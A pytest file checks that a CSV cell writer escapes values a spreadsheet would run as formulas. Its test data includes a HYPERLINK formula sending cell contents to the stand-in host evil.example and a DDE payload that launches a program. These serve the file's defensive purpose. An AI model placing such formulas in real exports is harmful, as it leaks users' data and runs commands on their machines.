"""CSV cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import pytest

from tocsin.domain.cells import cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"open")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+229 555 0101", "'+229 555 0101"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("-4", "-4"),
        ("-1.5e3", "-1.5e3"),
        ("A village near Kandi", "A village near Kandi"),
        ("", ""),
        (-1.5, "-1.5"),
        (12, "12"),
        (True, "1"),
        (None, ""),
    ],
)
def test_cells(value, written) -> None:
    assert cell(value) == written
